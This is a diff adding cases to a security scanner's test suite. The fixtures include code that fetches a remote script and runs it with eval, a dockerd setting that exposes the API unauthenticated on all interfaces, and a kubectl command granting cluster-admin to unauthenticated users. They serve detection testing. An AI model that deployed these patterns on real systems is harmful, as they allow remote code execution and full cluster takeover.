@@ -39,6 +39,10 @@ describe("network data reaching a code runner", () => {
     expect(rules(scanOf({ "dist/app.js": `${fetched("https://cdn.widgets.example/w.js")}  Function(body)();\n}\n` }))).toContain("SR-DLEXEC-008");
     atMostMedium(scanOf({ "dist/app.js": `${fetched("https://api.widgets.example/list")}  body.split(",").forEach(function (u) { console.log(u, body.length) });\n}\n` }));
   });
+  it("a runner after a passed-over callback on the same statement is still found", () => {
+    const s = scanOf({ "dist/app.js": "async function go() {\n  const r = await fetch('https://cdn.widgets.example/w.js');\n  const body = await r.text();\n  body.split(',').forEach(function (u) { console.log(u) }); eval(body);\n}\n" });
+    expect(rules(s)).toContain("SR-DLEXEC-008");
+  });
   it("honest: a fetched JSON config parsed, a TXT record printed", () => {
     atMostMedium(scanOf({
       "lib/cfg.js": "async function load(u) {\n  const r = await fetch(u);\n  return r.json();\n}\nconst cfg = await load('https://api.github.com/repos/octo/app/contents/cfg.json');\nconsole.log(JSON.stringify(cfg, null, 2));\n",
@@ -175,6 +179,8 @@ describe("dangerous capabilities are reviewed", () => {
   it("a dockerd drop-in listening on every interface without TLS", () => {
     const s = scanOf({ "docker/override.conf": "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:4243\n" });
     expect(rules(s)).toContain("SR-PRIV-007");
+    const loopback = scanOf({ "docker/override.conf": "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// -H tcp://127.0.0.1:4243\n" });
+    expect(rules(loopback)).not.toContain("SR-PRIV-007");
   });
   it("cluster-admin bound to unauthenticated users", () => {
     expect(rules(scanOf({ "grant.sh": "#!/bin/sh\nkubectl create clusterrolebinding open-door --clusterrole=cluster-admin --group=system:unauthenticated\n" }))).toContain("SR-PRIV-008");
